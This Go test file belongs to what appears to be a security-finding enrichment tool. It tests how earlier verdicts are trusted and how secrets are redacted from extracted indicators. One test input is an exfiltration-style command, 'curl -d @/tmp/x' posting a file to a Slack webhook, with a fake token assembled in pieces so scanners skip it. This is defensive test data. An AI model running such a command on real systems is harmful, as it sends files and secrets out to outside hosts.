package enrich

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/assess"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/marks"
	"github.com/scc-enricher/scc-enricher/pkg/record"
	"github.com/scc-enricher/scc-enricher/pkg/redact"
)

// TestEarlierOnes: whose word counts on what ran before, and how old it must be.
func TestEarlierOnes(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 3, 3, 12, 0, 0, 0, time.UTC)
	w := finding.Workload{Project: "p", Location: "l", Kind: finding.Service, Name: "web"}
	marked := func(hours int, verdict string, change func(map[string]string)) finding.Finding {
		f := finding.Finding{CanonicalName: verdict, Workload: w, EventTime: at.Add(-time.Duration(hours) * time.Hour)}
		rec := &record.Record{SchemaVersion: 1, Status: "complete", Finding: record.Finding{EventTime: f.EventTime}, Assessment: record.Assessment{Verdict: verdict}}
		f.Marks = marks.Render(rec, "e_").Values
		if change != nil {
			change(f.Marks)
		}
		return f
	}
	elsewhere := marked(50, "likely_benign", nil)
	elsewhere.Workload.Name = "other"
	tests := []struct {
		name string
		f    finding.Finding
		want []assess.Verdict
	}{
		{"ours", marked(50, "likely_benign", nil), []assess.Verdict{assess.LikelyBenign}},
		{"changed by somebody", marked(50, "malicious", func(m map[string]string) { m["e_verdict"] = "likely_benign" }), []assess.Verdict{""}},
		{"changed by somebody, and grave", marked(50, "malicious", func(m map[string]string) { m["e_summary"] = "x" }), []assess.Verdict{assess.Malicious}},
		{"of an event before its last", marked(50, "likely_benign", func(m map[string]string) { m["e_event_time"] = "2026-01-01T00:00:00.000000000Z" }), []assess.Verdict{""}},
		{"a day before", marked(24, "likely_benign", nil), []assess.Verdict{assess.LikelyBenign}},
		{"less than a day before", marked(23, "likely_benign", nil), nil},
		{"another workload", elsewhere, nil},
	}
	p := &Pipeline{Settings: Settings{MarkPrefix: "e_", MaxSpan: time.Hour}}
	for _, tt := range tests {
		v := &view{f: &finding.Finding{Workload: w, EventTime: at}, ev: &evidence.Evidence{History: []finding.Finding{tt.f}}}
		var got []assess.Verdict
		for _, e := range p.earlierOnes(v) {
			got = append(got, e.Verdict)
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
}

// TestIndicatorsAreClean: a URL that holds what looks like a secret is not
// asked about, its host is.
func TestIndicatorsAreClean(t *testing.T) {
	t.Parallel()
	r, err := redact.New()
	if err != nil {
		t.Fatal(err)
	}
	p := &Pipeline{Redactor: r}
	const hook = "https://hooks.slack.com/services/" + "T0A1B2C3D" + "/B0A1B2C3D/" + "a1B2c3D4e5F6g7H8i9J0k1L2" // in pieces, so that no scanner takes it for one
	got := p.indicators(&finding.Finding{Processes: []finding.Process{{Name: "sh", PID: 2, Args: []string{"sh", "-c", "curl -d @/tmp/x " + hook}}}})
	want := []evidence.Artifact{{Kind: "domain", Value: "hooks.slack.com", Role: evidence.RoleArgument}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("indicators (-want +got):\n%s", diff)
	}
	if none := p.indicators(&finding.Finding{}); none == nil || len(none) != 0 {
		t.Errorf("indicators of nothing = %v, want an empty list", none)
	}
}
